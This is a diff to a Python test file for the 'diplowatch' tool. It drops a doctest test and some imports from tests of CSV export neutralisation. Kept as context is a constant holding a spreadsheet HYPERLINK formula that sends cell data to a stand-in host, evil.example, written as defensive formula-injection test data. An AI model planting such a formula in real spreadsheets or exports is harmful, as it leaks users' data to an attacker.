@@ -5,7 +5,6 @@ escaped."""
 from __future__ import annotations
 
 import csv
-import doctest
 import io
 from dataclasses import replace
 from datetime import date
@@ -18,9 +17,7 @@ from fastapi.testclient import TestClient
 from typer.testing import CliRunner
 
 import diplowatch.web
-from diplowatch import failures, sites
 from diplowatch.cli import app
-from diplowatch.present import export, terminal
 from diplowatch.present.export import neutralised
 from diplowatch.store import Store
 from diplowatch.web import WebSettings, create_app
@@ -28,11 +25,6 @@ from outlets import day_of, page_and_article, ties_event
 
 HOSTILE_SENTENCE = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
 URL = "https://example.org/2024/08/06/niger-ukraine"
-
-
-@pytest.mark.parametrize("module", [export, failures, sites, terminal])
-def test_doctests(module: object) -> None:
-    assert doctest.testmod(module).failed == 0  # type: ignore[arg-type]
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
